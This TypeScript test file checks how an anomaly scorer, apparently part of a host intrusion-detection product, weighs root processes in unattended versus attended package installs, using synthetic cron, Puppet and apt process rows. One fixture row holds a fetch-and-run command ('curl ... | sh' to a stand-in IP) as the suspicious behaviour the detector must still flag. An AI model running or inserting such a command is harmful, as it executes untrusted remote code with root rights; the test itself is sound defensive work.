import t from 'tap';
import type { ResultRow } from '../scorer/types';
import { fittedOn, processRow, scoreOf, type Ids } from './helpers/root-process';

// An unattended package run (branch fp, scorer/models/package-run.ts): a package manager's run
// no login is behind (the OS's automatic upgrades, the configuration agent) is the host's own
// change path. Root's own model on a server that never installed anything put every step of a
// first kernel upgrade and of a configuration agent's first install below 0.3, by the SVM and by
// the maintainer scripts' command lines (heldout3: 15 to 18 rows per seed). The rows below go
// through the product's extractor, which decides what is in a run and whether a login is
// behind it; the models are the two a subject is scored by.

const DAY = 86400;
const START = 1_790_000_000 - (1_790_000_000 % DAY);
const UNSET = '4294967295';

function proc(pid: number, parent: number, path: string, cmdline: string, time: number, ids: Ids): ResultRow {
  return processRow('ci-1', pid, parent, path, cmdline, time, ids);
}

type Row = ResultRow;

/** root's routine on a server for fourteen days: cron's hourly jobs and the configuration agent's runs, no install */
function routine(): Row[] {
  const rows: Row[] = [];
  const root = { uid: '0', auid: UNSET };
  let pid = 1000;
  for (let d = 0; d < 14; d++) {
    for (let h = 0; h < 24; h++) {
      const at = START + d * DAY + h * 3600;
      const cron = pid++;
      rows.push(proc(cron, 1, '/usr/sbin/cron', '/usr/sbin/CRON -f', at, root));
      const sh = pid++;
      rows.push(proc(sh, cron, '/bin/sh', '/bin/sh -c cd / && run-parts --report /etc/cron.hourly', at + 1, root));
      rows.push(proc(pid++, sh, '/bin/run-parts', 'run-parts --report /etc/cron.hourly', at + 1, root));
      if (h % 6 === 0) {
        const agent = pid++;
        rows.push(
          proc(
            agent,
            1,
            '/opt/puppetlabs/puppet/bin/ruby',
            '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --onetime',
            at + 600,
            root,
          ),
        );
        rows.push(proc(pid++, agent, '/usr/bin/dpkg-query', "dpkg-query -W --showformat '${Status} ${Package}'", at + 602, root));
      }
    }
  }
  return rows;
}

/**
 * A first install by apt, its maintainer script and what the script runs: started by the
 * configuration agent (no login behind it), or by a person's `sudo` in an SSH session (login
 * uid 1000). The rows are named by what they are.
 */
function install(at: number, attended: boolean, base: number): Array<[string, Row]> {
  const root = { uid: '0', auid: attended ? '1000' : UNSET };
  const rows: Array<[string, Row]> = [];
  let starter = base;
  if (attended) {
    rows.push(['shell', proc(base, 1, '/bin/bash', '-bash', at, { uid: '1000', auid: '1000' })]);
    rows.push([
      'sudo',
      proc(base + 1, base, '/usr/bin/sudo', 'sudo apt-get install -y prometheus-node-exporter', at + 1, { uid: '1000', euid: '0', auid: '1000' }),
    ]);
    starter = base + 1;
  } else
    rows.push([
      'agent',
      proc(base, 1, '/opt/puppetlabs/puppet/bin/ruby', '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --onetime', at, root),
    ]);
  rows.push(['apt-get', proc(base + 2, starter, '/usr/bin/apt-get', 'apt-get install -y prometheus-node-exporter', at + 2, root)]);
  rows.push(['dpkg', proc(base + 3, base + 2, '/usr/bin/dpkg', 'dpkg --status-fd 47 --configure prometheus-node-exporter', at + 5, root)]);
  rows.push([
    'postinst',
    proc(
      base + 4,
      base + 3,
      '/var/lib/dpkg/info/prometheus-node-exporter.postinst',
      '/var/lib/dpkg/info/prometheus-node-exporter.postinst configure',
      at + 6,
      root,
    ),
  ]);
  rows.push(['adduser', proc(base + 5, base + 4, '/usr/sbin/adduser', 'adduser --quiet --system --group --no-create-home prometheus', at + 7, root)]);
  rows.push(['systemctl', proc(base + 6, base + 4, '/usr/bin/systemctl', 'systemctl start prometheus-node-exporter.service', at + 8, root)]);
  // a maintainer script that hands code to a shell: someone's text, not a package's file
  rows.push(['sh -c', proc(base + 7, base + 4, '/bin/sh', 'sh -c curl -s http://203.0.113.9/x | sh', at + 9, root)]);
  return rows;
}

const fitted = () => fittedOn(routine());

t.test(
  'an unattended package run: values and command lines count a quarter, the SVM abstains; its start, shell code and a run a login is behind are weighed as before',
  async (t) => {
    const { x, rarity, ocsvm } = await fitted();
    const at = START + 14 * DAY + 6 * 3600 + 1200;
    // each run's rows through the extractor in order (its process table makes the run), one copy
    // for the agent's run and one for the person's
    const events = (attended: boolean, base: number) => new Map(install(at, attended, base).map(([name, row]) => [name, x.extract(row).event]));
    const agent = events(false, 900_000);
    const person = events(true, 950_000);
    for (const name of ['postinst', 'adduser', 'systemctl']) {
      const [a, p] = [agent.get(name)!, person.get(name)!];
      t.ok(a.values.includes('run=package-manager') && p.values.includes('run=package-manager'), `${name}: in the run either way`);
      const [ra, rp] = [await scoreOf(rarity, a), await scoreOf(rarity, p)];
      t.ok(
        ra.value < 0.6 * rp.value,
        `${name}: in the agent's run (${ra.value.toFixed(2)}) weighs at most about half what it does in the person's (${rp.value.toFixed(2)})`,
      );
      const [sa, sp] = [await scoreOf(ocsvm, a), await scoreOf(ocsvm, p)];
      t.ok(Number.isNaN(sa.value), `${name}: the SVM gives no evidence in the agent's run (${sa.value})`);
      t.ok(Number.isFinite(sp.value), `${name}: the SVM weighs it in the person's run (${sp.value.toFixed(3)})`);
    }
    // the run is judged where it starts: the package manager's own row is in no run
    const start = agent.get('apt-get')!;
    t.notOk(start.values.includes('run=package-manager'), 'apt-get below the agent starts the run, it is not in one');
    t.ok(Number.isFinite((await scoreOf(ocsvm, start)).value), "the SVM weighs the run's start");
    // a shell given code in the run is weighed as anywhere, by both models
    const code = agent.get('sh -c')!;
    const codeOutside = { ...code, values: code.values.filter((v) => v !== 'run=package-manager') };
    const [c1, c2] = [await scoreOf(rarity, code), await scoreOf(rarity, codeOutside)];
    t.ok(c1.value > 0.95 * c2.value, `\`sh -c\` in the agent's run (${c1.value.toFixed(2)}) weighs as outside one (${c2.value.toFixed(2)})`);
    t.ok(Number.isFinite((await scoreOf(ocsvm, code)).value), 'the SVM weighs `sh -c` in the run');
  },
);
